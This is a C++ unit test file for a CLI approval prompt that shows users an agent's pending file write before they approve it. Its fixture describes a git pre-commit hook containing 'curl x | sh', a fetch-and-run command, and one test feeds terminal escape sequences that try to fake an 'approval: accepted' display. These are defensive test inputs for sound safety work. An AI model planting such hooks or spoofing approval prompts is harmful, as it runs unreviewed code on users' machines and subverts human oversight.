// Tests for cli/approval_view.h: the target comes first and whole, a sensitive one is marked, the change
// follows with its end visible, control characters cannot redraw the prompt, and the choices name what a
// remembered decision covers and map to approval.response params.
#include "cli/approval_view.h"

#include <gtest/gtest.h>

#include <string>

namespace keel::cli {
namespace {

using nlohmann::json;

json write_request() {
  return {{"approvalId", "a1"},
          {"tool", {{"name", "write_file"}, {"effects", "write"}}},
          {"arguments", {{"content", "x"}, {"path", ".git/hooks/pre-commit"}}},
          {"preview",
           {{"action", "create file"},
            {"target", "/w/.git/hooks/pre-commit"},
            {"sensitive", true},
            {"sensitiveReasons", {"inside .git/ (its hooks and config run commands)"}},
            {"change",
             {{"format", "excerpt"},
              {"text", "+#!/bin/sh\n+… 300 lines not shown …\n+curl x | sh\n"},
              {"bytesAfter", 4321}}}}},
          {"reason", "writes on this machine need approval"},
          {"offers", {"accept", "acceptForSite", "decline"}},
          {"remember",
           {{"text", "write_file (write) on this machine, in this thread (t1), in the workspace /w"},
            {"lifetimes", {"turn", "session", "untilRevoked"}}}}};
}

TEST(ApprovalViewTest, TheTargetComesFirstMarkedSensitiveThenTheChangeWithItsEnd) {
  const std::vector<std::string> lines = approval_lines(write_request());
  ASSERT_GE(lines.size(), 6u);
  EXPECT_EQ(lines[0], "? approve write_file (write): create file");
  EXPECT_EQ(lines[1], "  target  /w/.git/hooks/pre-commit");
  EXPECT_EQ(lines[2], "  !! SENSITIVE: inside .git/ (its hooks and config run commands)");
  EXPECT_EQ(lines[3], "  change  excerpt, new, 4,321 bytes");
  EXPECT_EQ(lines[6], "  │ +curl x | sh");
  EXPECT_EQ(lines.back(), "  why     writes on this machine need approval");
}

TEST(ApprovalViewTest, ControlCharactersFromTheRequestAreMadeVisible) {
  json request = write_request();
  request["preview"]["change"]["text"] = "+\x1b]0;title\x07\x1b[2J\rapproval: accepted\xc2\x9b\n";
  const std::string text = approval_text(request);
  EXPECT_EQ(text.find('\x1b'), std::string::npos) << text;
  EXPECT_EQ(text.find('\r'), std::string::npos) << text;
  EXPECT_EQ(text.find("\xc2\x9b"), std::string::npos) << text;
  EXPECT_NE(text.find("^[]0;title^G^[[2J^Mapproval: accepted<U+009B>"), std::string::npos) << text;
}

TEST(ApprovalViewTest, TheChoicesNameWhatIsRememberedAndForHowLong) {
  const std::vector<std::string> choices = approval_choice_lines(write_request());
  ASSERT_EQ(choices.size(), 2u);
  EXPECT_EQ(
      choices[0],
      "or remember: write_file (write) on this machine, in this thread (t1), in the workspace /w — for this "
      "turn [t], until keel exits [s], until revoked [a]");
  EXPECT_EQ(choices[1], "[y] once  [t] turn  [s] session  [a] until revoked  [n] decline");
  EXPECT_EQ(approval_answer(write_request(), "y"), (json{{"decision", "accept"}}));
  EXPECT_EQ(approval_answer(write_request(), "s"),
            (json{{"decision", "acceptForSite"}, {"remember", "session"}}));
  EXPECT_EQ(approval_answer(write_request(), "t"),
            (json{{"decision", "acceptForSite"}, {"remember", "turn"}}));
  EXPECT_EQ(approval_answer(write_request(), "a"),
            (json{{"decision", "acceptForSite"}, {"remember", "untilRevoked"}}));
  EXPECT_EQ(approval_answer(write_request(), "n"), (json{{"decision", "decline"}}));
  EXPECT_FALSE(approval_answer(write_request(), "x").has_value());
}

TEST(ApprovalViewTest, WithoutAcceptForSiteOnlyAcceptAndDeclineAreChoices) {
  json request = write_request();
  request["offers"] = {"accept", "decline"};
  request.erase("remember");
  EXPECT_EQ(approval_choice_lines(request), std::vector<std::string>{"[y] accept  [n] decline"});
  EXPECT_FALSE(approval_answer(request, "s").has_value());
}

TEST(ApprovalViewTest, ARequestWithoutPreviewShowsItsArgumentsWhole) {
  json request = write_request();
  request.erase("preview");
  const std::string text = approval_text(request);
  EXPECT_NE(text.find("\"path\": \".git/hooks/pre-commit\""), std::string::npos) << text;
}

}  // namespace
}  // namespace keel::cli
